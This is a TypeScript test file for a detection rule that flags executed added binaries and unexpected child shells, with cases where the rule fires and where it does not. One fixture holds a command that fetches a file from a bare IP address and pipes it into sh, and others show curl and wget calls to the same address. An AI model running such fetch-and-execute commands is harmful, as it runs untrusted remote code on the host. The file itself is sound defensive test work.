import { sccUnexpectedBinary } from '../../../../shared/detection/rules/scc-unexpected-binary.ts';
import { sccCases } from '../threat-cases.ts';

describe('scc-unexpected-binary', () => {
  sccCases(sccUnexpectedBinary, {
    fires: [
      ['a binary that was added', { category: 'Added Binary Executed' }, { severity: 'medium', confidence: 0.35 }],
      ['a shell of a child', { category: 'Unexpected Child Shell' }, { severity: 'medium', confidence: 0.45 }],
      [
        'a shell of a child that runs what it fetches from a bare address',
        { category: 'Unexpected Child Shell', processes: [['sh', '-c', 'curl -s http://203.0.113.9/x | sh']] },
        { severity: 'medium', confidence: 0.55 },
      ],
      [
        'a shell of a child that shows what it fetches',
        { category: 'Unexpected Child Shell', processes: [['curl', 'http://203.0.113.9/x']] },
        { severity: 'medium', confidence: 0.45 },
      ],
    ],
    misses: [
      [
        'an alert of another name, whatever its process fetches',
        { category: 'Impact: Detect Malicious Cmdlines', processes: [['wget', 'http://203.0.113.9/x']] },
      ],
      [
        'a finding of a name that is only like one of its own',
        { category: 'Execution: Added Malicious Binary Executed' },
      ],
    ],
  });
});
